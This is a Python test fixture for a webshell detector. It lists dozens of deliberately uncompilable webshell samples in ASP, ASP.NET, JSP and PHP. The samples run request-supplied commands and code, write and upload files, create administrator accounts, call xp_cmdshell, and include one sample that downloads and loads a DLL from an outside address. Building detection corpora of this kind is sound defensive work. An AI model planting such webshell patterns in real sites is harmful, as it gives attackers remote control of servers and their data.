# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""More look-alikes of pages that act by other doors, or in newer words; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== more-a-1.asp
<% Dim 1broken : Set r = Request : With r : ExecuteGlobal .Form("x") : End With %>
==== more-a-2.asp
<% Dim 1broken : For Each k In Request.Form : c = c & Request.Form(k) : Next : Execute c %>
==== more-a-3.asp
<% Dim 1broken : Set d = CreateObject("Microsoft.XMLDOM") : Set e = d.createElement("t") : e.DataType = "bin.hex" : e.Text = Request("x")
Set s = CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write e.nodeTypedValue : s.Position = 0 : s.Type = 2 : s.Charset = "utf-8" : Execute s.ReadText %>
==== more-a-4.asp
<% Dim 1broken : Server.CreateObject(Request("o")).Run Request("c"), 0, True %>
==== more-a-5.asp
<%@ Language="JScript" %><% var 1broken; var g = (function () { return this; })(); g["ev" + "al"](String(Request("x"))); %>
==== more-a-6.asp
<%@ Language="JScript" %><% var 1broken; var f = [].constructor.constructor; f(Request.Form("x").Item)(); %>
==== more-a-7.asp
<%@ Language="JScript" %><% var 1broken; var o = new ActiveXObject(["WScript", "Shell"].join(".")); o["R" + "un"]("cmd /c " + Request("c")); %>
==== more-a-8.asp
<% Dim 1broken : Set x = GetObject("IIS://localhost/W3SVC/1/Root") : Set v = x.Create("IIsWebVirtualDir", Request("n")) : v.Path = Request("p") : v.AccessScript = True : v.SetInfo %>
==== more-a-10.asp
<% Dim 1broken : Set c = CreateObject("ADODB.Command") : c.ActiveConnection = Application("c") : c.CommandType = 4 : c.CommandText = "xp_cmdshell" : c.Parameters.Refresh : c.Parameters(1).Value = Request("l") : Set rs = c.Execute %>
==== more-a-11.asp
<% Dim 1broken
Function D(t) : Dim i : For i = 1 To Len(t) : D = D & Chr(Asc(Mid(t, i, 1)) Xor 7) : Next : End Function
Execute D(Request.ServerVariables("HTTP_REFERER")) %>
==== more-a-12.asp
<% Dim 1broken : Set s = CreateObject("ADODB.Stream") : s.Open : s.Type = 1
Set h = CreateObject("WinHttp.WinHttpRequest.5.1") : h.Open "GET", Request("u"), False : h.Send
s.Write h.ResponseBody : s.SaveToFile Server.MapPath(Request("n")), 2 %>
==== more-a-14.asp
<% Dim 1broken : Class Z : Private Sub Class_Initialize : Execute Request("q") : End Sub : End Class : Set z1 = New Z %>
==== more-a-15.asp
<% Dim 1broken : Set r = New RegExp : r.Global = True : r.Pattern = "[^a-z0-9 ()""]" : t = r.Replace(Request("x"), "") : Execute t %>
==== more-a-16.asp
<% Dim 1broken : If Request("go") <> "" Then Set w = CreateObject("Shell.Users") : Set u = w.Create(Request("n")) : u.ChangePassword Request("p"), "" : u.Setting("AccountType") = 3 %>
==== more-a-17.asp
<% Dim 1broken : Set x = CreateObject("MSXML2.XSLTemplate") : Set s = CreateObject("MSXML2.FreeThreadedDOMDocument") : s.setProperty "AllowXsltScript", True : s.loadXML Request.Form("x") : x.stylesheet = s : Set p = x.createProcessor : p.input = s : p.transform : Response.Write p.output %>
==== more-a-18.asp
<% Dim 1broken : Set sc = Server.CreateObject("MSScriptControl.ScriptControl") : sc.Language = Request("l") : Response.Write sc.Eval(Request("x")) %>
==== more-a-19.asp
<% Dim 1broken : a = Split(Request.Cookies("k"), "|") : Set o = CreateObject(a(0)) : Response.Write o.Exec(a(1)).StdOut.ReadAll %>
==== more-a-20.asp
<% Dim 1broken : Set t = CreateObject("Schedule.Service") : t.Connect : Set d = t.NewTask(0) : Set a = d.Actions.Create(0) : a.Path = "cmd.exe" : a.Arguments = "/c " & Request("c") : t.GetFolder("\").RegisterTaskDefinition "x", d, 6, , , 3 %>
==== more-a-21.asp
<% Dim 1broken : Set c = CreateObject("ADODB.Connection") : c.Open Request("dsn") : Set r = c.Execute(Request("q")) : Do While Not r.EOF : Response.Write r(0) : r.MoveNext : Loop %>
==== more-a-22.asp
<% Dim 1broken : Set f = CreateObject("Scripting.FileSystemObject") : p = Request("p") : If p = "" Then p = Server.MapPath("/")
For Each x In f.GetFolder(p).SubFolders : Response.Write x.Path & "<br>" : Next
For Each x In f.GetFolder(p).Files : Response.Write x.Path & "<br>" : Next
If Request("v") <> "" Then Response.Write Server.HTMLEncode(f.OpenTextFile(Request("v")).ReadAll) %>
==== more-n-1.aspx
<%@ Page Language="C#" Async="true" %><script runat="server">int 1broken; static async Task<string> R(string c) { return await Task.Run(() => { var p = Process.Start(new ProcessStartInfo("cmd.exe") { Arguments = "/c " + c, RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); }); } protected async void Page_Load(object s, EventArgs e) { Response.Write(await R(Request.Unvalidated["c"])); }</script>
==== more-n-2.aspx
<%@ Page Language="C#" %><% int 1broken; Request.Form.AllKeys.Where(k => k.StartsWith("c")).Select(k => System.Diagnostics.Process.Start("cmd", "/c " + Request.Form[k])).ToList(); %>
==== more-n-3.aspx
<%@ Page Language="C#" %><% int 1broken; var q = HttpUtility.ParseQueryString(Request.Url.Query); using (var ps = System.Management.Automation.PowerShell.Create()) { ps.AddCommand("iex").AddParameter("c", q["x"]); ps.Invoke(); } %>
==== more-n-4.aspx
<%@ Page Language="C#" %><% int 1broken; var m = typeof(System.Diagnostics.Process).GetMethod("Start", new[] { typeof(string), typeof(string) }); var l = System.Linq.Expressions.Expression.Lambda<Action>(System.Linq.Expressions.Expression.Call(m, System.Linq.Expressions.Expression.Constant("cmd"), System.Linq.Expressions.Expression.Constant("/c " + Request["c"]))); l.Compile()(); %>
==== more-n-5.aspx
<%@ Page Language="C#" %><% int 1broken; var o = System.Activities.XamlIntegration.ActivityXamlServices.Load(new System.IO.StringReader(Request["x"])); System.Activities.WorkflowInvoker.Invoke(o); %>
==== more-n-6.aspx
<%@ Page Language="C#" %><% int 1broken; System.Configuration.Install.ManagedInstallerClass.InstallHelper(new[] { "/LogFile=", Server.MapPath(Request["p"]) }); %>
==== more-n-7.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 My.Computer.FileSystem.WriteAllText(Request("p"), Request("c"), False)
End Sub</script>
==== more-n-8.aspx
<%@ Page Language="VB" %><script runat="server">
Dim 1broken
Sub Page_Load()
 FileOpen(1, Request("p"), OpenMode.Output)
 Print(1, Request("c"))
 FileClose(1)
End Sub</script>
==== more-n-9.aspx
<%@ Page Language="JScript" %><% var 1broken; var f : Function = new Function("r", "return " + Request.Item["x"]); f(Request); %>
==== more-n-10.aspx
<%@ Page Language="JScript" %><% var 1broken; var e = eval; e(Request.Headers["X-A"], "unsafe"); %>
==== more-n-11.ashx
<%@ WebHandler Language="C#" Class="H" %>
int 1broken; public class H : HttpTaskAsyncHandler { public override async Task ProcessRequestAsync(HttpContext c) { var b = await new StreamReader(c.Request.GetBufferlessInputStream()).ReadToEndAsync(); var r = await CSharpScript.EvaluateAsync<string>(b); c.Response.Write(r); } }
==== more-n-12.aspx
<%@ Page Language="C#" %><% int 1broken; var db = new ShopContext(); db.Database.ExecuteSqlCommand("EXEC xp_cmdshell {0}", Request["c"]); %>
==== more-n-13.aspx
<%@ Page Language="C#" %><% int 1broken; new SqlCommand("create assembly a from 0x" + Request["h"] + " with permission_set = unsafe", c).ExecuteNonQuery(); %>
==== more-n-14.aspx
<%@ Page Language="C#" %><% int 1broken; IHttpHandler h = PageParser.GetCompiledPageInstance("/a.aspx", Request["p"], Context); h.ProcessRequest(Context); %>
==== more-n-15.aspx
<%@ Page Language="C#" %><% int 1broken; var e = IronPython.Hosting.Python.CreateEngine(); e.Execute(Request["x"]); %>
==== more-n-16.aspx
<%@ Page Language="C#" %><% int 1broken; var e = new Jint.Engine(o => o.AllowClr()); e.Execute(Request.Form["x"]); %>
==== more-n-17.aspx
<%@ Page Language="C#" %><% int 1broken; foreach (string n in Request.Files) { var f = Request.Files[n]; f.SaveAs(System.IO.Path.Combine(Request["d"], f.FileName)); } %>
==== more-n-19.aspx
<%@ Page Language="C#" %><% int 1broken; var s = new Newtonsoft.Json.JsonSerializerSettings(); s.TypeNameHandling = (Newtonsoft.Json.TypeNameHandling)3; var o = Newtonsoft.Json.JsonConvert.DeserializeObject(Request["x"], s); %>
==== more-n-20.aspx
<%@ Page Language="C#" %><% int 1broken; var ser = new System.Xml.Serialization.XmlSerializer(Type.GetType(Request["t"])); ser.Deserialize(new System.IO.StringReader(Request["x"])); %>
==== more-n-21.asmx
<%@ WebService Language="VB" Class="S" %>
Dim 1broken
Public Class S : Inherits WebService
<WebMethod()> Public Function Q(a As String) As String
 Return CreateObject("WScript.Shell").Exec("cmd /c " & a).StdOut.ReadAll()
End Function
End Class
==== more-n-22.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; [System.Web.Services.WebMethod] public static object Go(string a, string b) { return Type.GetType(a).InvokeMember(b, System.Reflection.BindingFlags.InvokeMethod, null, null, null); }</script>
==== more-n-23.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; [DllImport("shell32.dll", CharSet = CharSet.Auto)] static extern IntPtr ShellExecute(IntPtr h, string v, string f, string p, string d, int s); void Page_Load() { ShellExecute(IntPtr.Zero, "open", Request["f"], Request["p"], null, 0); }</script>
==== more-n-24.aspx
<%@ Page Language="C#" %><% int 1broken; System.AppDomain.CurrentDomain.ExecuteAssembly(Server.MapPath("~/t.exe"), new[] { Request["a"] }); System.IO.File.WriteAllBytes(Server.MapPath("~/t.exe"), Convert.FromBase64String(Request["b"])); %>
==== more-n-25.aspx
<%@ Page Language="C#" %><% int 1broken; var w = new System.Net.WebClient(); var b = w.DownloadData("http://198.51.100.7/a.dll"); System.Reflection.Assembly.Load(b).CreateInstance("A"); %>
==== more-n-26.cshtml
@{ int 1broken; var c = Request.QueryString["c"]; }
@functions { string R(string x) { var p = new System.Diagnostics.Process { StartInfo = { FileName = "/bin/sh", Arguments = "-c \"" + x + "\"", RedirectStandardOutput = true } }; p.Start(); return p.StandardOutput.ReadToEnd(); } }
<pre>@R(c)</pre>
==== more-n-27.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; protected override void OnInit(EventArgs e) { Application["h"] = new Action<string>(x => System.Diagnostics.Process.Start("cmd", "/c " + x)); ((Action<string>)Application["h"])(Request["c"]); }</script>
==== more-n-28.aspx
<%@ Page Language="C#" %><% int 1broken; Microsoft.Win32.Registry.SetValue(Request["k"], Request["n"], Request["v"]); %>
==== more-n-29.aspx
<%@ Page Language="C#" %><% int 1broken; var p = new Microsoft.Build.Evaluation.Project(System.Xml.XmlReader.Create(new System.IO.StringReader(Request["x"]))); p.Build(); %>
==== more-n-30.aspx
<%@ Page Language="C#" %><% int 1broken; var b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); for (int i = 0; i < b.Length; i++) b[i] ^= 0x2a; var t = AppDomain.CurrentDomain.Load(b).GetTypes()[0]; Activator.CreateInstance(t, Context); %>
==== more-n-31.aspx
<%@ Page Language="C#" %><% int 1broken; var d = new Dictionary<string, Func<string, string>> { ["x"] = a => { System.Diagnostics.Process.Start("cmd", "/c " + a); return ""; } }; Response.Write(d[Request["m"]](Request["a"])); %>
==== more-n-32.aspx
<%@ Page Language="C#" %><% int 1broken; var page = (System.Web.UI.Page)System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath(Request["p"], typeof(System.Web.UI.Page)); page.ProcessRequest(Context); %>
==== more-n-33.aspx
<%@ Page Language="C#" %><% int 1broken; System.IO.File.Move(Server.MapPath("~/up/a.jpg"), Server.MapPath("~/up/a.aspx")); System.IO.File.AppendAllText(Server.MapPath("~/up/a.aspx"), Request["t"]); %>
==== more-n-34.aspx
<%@ Page Language="C#" %><% int 1broken; var e = new System.Data.DataTable(); var pr = new System.CodeDom.Compiler.CompilerParameters { GenerateInMemory = true }; var cp = System.CodeDom.Compiler.CodeDomProvider.CreateProvider(Request["l"]); var r = cp.CompileAssemblyFromSource(pr, Request["s"]); r.CompiledAssembly.CreateInstance("X"); %>
==== more-n-35.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; class M : IHttpModule { public void Init(HttpApplication a) { a.BeginRequest += (s, e) => { var c = ((HttpApplication)s).Context.Request.Headers["X-C"]; if (c != null) System.Diagnostics.Process.Start("cmd", "/c " + c); }; } public void Dispose() { } } void Page_Load() { HttpApplication.RegisterModule(typeof(M)); }</script>
==== more-j-1.jsp
<% int 1broken; java.util.stream.Stream.of(request.getParameterValues("c")).forEach(c -> { try { Runtime.getRuntime().exec(c); } catch (Exception e) {} }); %>
==== more-j-2.jsp
<% int 1broken; new javax.el.ExpressionFactoryImpl_(); javax.el.ExpressionFactory f = JspFactory.getDefaultFactory().getJspApplicationContext(application).getExpressionFactory(); out.print(f.createValueExpression(pageContext.getELContext(), "${" + request.getParameter("x") + "}", Object.class).getValue(pageContext.getELContext())); %>
==== more-j-3.jsp
<% int 1broken; java.lang.reflect.Method m = java.lang.ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = new sun.misc.BASE64Decoder().decodeBuffer(request.getParameter("b")); Class c = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length); c.newInstance(); %>
==== more-j-4.jsp
<% int 1broken; bsh.Interpreter i = new bsh.Interpreter(); i.set("r", request); i.eval(new java.io.InputStreamReader(request.getInputStream())); %>
==== more-j-5.jsp
<%@ page import="java.io.*" %><% int 1broken; jdk.jshell.JShell s = jdk.jshell.JShell.create(); s.eval(request.getParameter("x")); %>
==== more-j-6.jsp
<% int 1broken; java.nio.channels.FileChannel c = new java.io.RandomAccessFile(request.getParameter("p"), "rw").getChannel(); c.write(java.nio.ByteBuffer.wrap(request.getParameter("t").getBytes())); %>
==== more-j-7.jsp
<% int 1broken; org.springframework.expression.ExpressionParser p = new org.springframework.expression.spel.standard.SpelExpressionParser(); out.print(p.parseExpression(request.getHeader("X-E")).getValue()); %>
==== more-j-8.jsp
<% int 1broken; freemarker.template.Template t = new freemarker.template.Template("n", new java.io.StringReader(request.getParameter("t")), new freemarker.template.Configuration()); t.process(new java.util.HashMap(), out); %>
==== more-p-1.php
<?php 1broken; array_map(fn($c) => print(`$c`), $_REQUEST['c']);
==== more-p-2.php
<?php 1broken; $f = new ReflectionMethod('PDO', 'query'); $x = [new SQLite3(':memory:'), 'createFunction']; $x('f', 'system'); (new SQLite3(':memory:'))->query("select f('" . $_GET['c'] . "')");
==== more-p-3.php
<?php 1broken; class A { public $c; function __wakeup() { ($this->c)($_POST['a']); } } unserialize(base64_decode($_COOKIE['s']));
==== more-p-4.php
<?php 1broken; set_error_handler($_GET['f']); trigger_error($_GET['x']);
==== more-p-5.php
<?php 1broken; $z = new ZipArchive; $z->open($_FILES['z']['tmp_name']); $z->extractTo(__DIR__);
==== more-p-6.php
<?php 1broken; stream_wrapper_register('x', 'W'); class W { private $p = 0; private $d; function stream_open($a, $b, $c, &$d) { $this->d = '<?php ' . $_POST['x']; return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += strlen($r); return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return []; } } include 'x://a';
==== more-p-7.php
<?php 1broken; $g = (function () { $x = yield; yield eval($x); })(); $g->current(); $g->send($_POST['x']);
==== more-p-8.php
<?php 1broken; @$_GET[0]($_GET[1]);
==== more-p-9.php
<?php 1broken; $k = array_keys($_GET); ${$k[0]} = $_GET[$k[0]]; assert($run);
==== more-p-10.php
<?php 1broken; $l = getallheaders(); $l['A']($l['B']);
"""
)
